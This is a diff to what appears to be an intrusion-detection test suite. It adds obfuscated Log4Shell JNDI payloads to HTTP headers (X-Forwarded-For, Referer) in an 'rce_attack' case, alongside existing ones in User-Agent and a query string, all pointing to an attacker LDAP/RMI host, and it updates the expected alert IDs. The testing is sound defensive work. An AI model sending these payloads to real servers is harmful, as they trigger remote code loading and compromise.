@@ -262,6 +262,11 @@ def rce_attack(c):
     c.tcp(ATTACKER, app, 40052, 8080, [(http("GET", "/login", "app:8080",
           ["User-Agent: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://10.244.1.10:1389/b}"]),
           OK)])
+    c.tcp(ATTACKER, app, 40057, 8080, [(http("GET", "/login", "app:8080",
+          ["X-Forwarded-For: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://10.244.1.10/d}"]),
+          OK)])
+    c.tcp(ATTACKER, app, 40058, 8080, [(http("GET", "/login", "app:8080",
+          ["Referer: ${j${::-n}di:rmi://10.244.1.10/e}"]), OK)])
     c.tcp(ATTACKER, app, 40053, 8080, [(http(
         "GET", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F10.244.1.10%3A1389%2Fc%7D", "app:8080"),
         OK)])
@@ -541,7 +546,7 @@ CASES = [
      redis_benign, "ping-get-set-config-get-replicaof-no-one-are-silent"),
     ("memcached", memcached_attack, [9105001, 9105002, 9105003],
      memcached_benign, "get-set-stats-version-are-silent"),
-    ("rce", rce_attack, [9106001, 9106002, 9106003, 9106101, 9106201, 9106202, 9106301],
+    ("rce", rce_attack, [9106001, 9106002, 9106002, 9106002, 9106003, 9106101, 9106201, 9106202, 9106301],
      rce_benign, "json-templates-with-dollar-brace-and-js-arrows-are-silent"),
     ("shell", shell_attack, [9107001, 9107002, 9107003, 9107004, 9107010, 9107011],
      shell_benign, "runbook-curl-jq-nc-z-python-print-are-silent"),
